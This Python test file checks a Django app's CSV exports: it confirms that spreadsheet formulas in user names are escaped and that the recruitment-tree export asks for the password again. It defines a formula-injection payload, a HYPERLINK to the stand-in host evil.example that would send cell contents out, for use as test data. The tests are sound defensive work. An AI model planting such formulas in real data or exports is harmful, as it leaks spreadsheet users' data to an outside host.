"""Attacks through the CSV exports: formula payloads in every cell, and exports without re-authentication."""

import csv
import io

import pytest
from django.urls import reverse

from contacts.models import Export
from leaders.pipeline import add_prospect
from tests.cast import PASSWORD, make_client, make_user

pytestmark = pytest.mark.django_db

PAYLOAD = '=HYPERLINK("https://evil.example/"&A1)'


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_a_recruiters_or_coordinators_name_is_neutralized_in_the_leader_export(sam, carol):
    """A self-chosen first name reaches the 'Coordinator' and 'Recruited by' cells as a User, not a str."""
    recruiter = make_user("mallory@example.org", first_name=PAYLOAD)
    carol.first_name = PAYLOAD
    carol.save()
    profile = add_prospect(first_name="Rita", email="rita@example.org", county="Nodaway", recruiter=recruiter)
    profile.coordinator = carol
    profile.save(update_fields=["coordinator"])
    client = make_client(sam)
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    rows = _rows(client.get(reverse("dashboard:leaders_export")))
    rita = next(row for row in rows if row[0].startswith("Rita"))
    assert rita[6].startswith("'=") and rita[7].startswith("'=")


def test_the_recruitment_tree_export_asks_for_the_password_again(sam):
    """Every other export of people re-authenticates first (DESIGN §8); the tree's did not."""
    client = make_client(sam)
    response = client.get(reverse("events:tree_export"))
    assert response.status_code == 302 and response["Location"].startswith(reverse("account_reauthenticate"))
    assert not Export.objects.exists()
    client.post(reverse("account_reauthenticate"), {"password": PASSWORD})
    assert client.get(reverse("events:tree_export")).status_code == 200
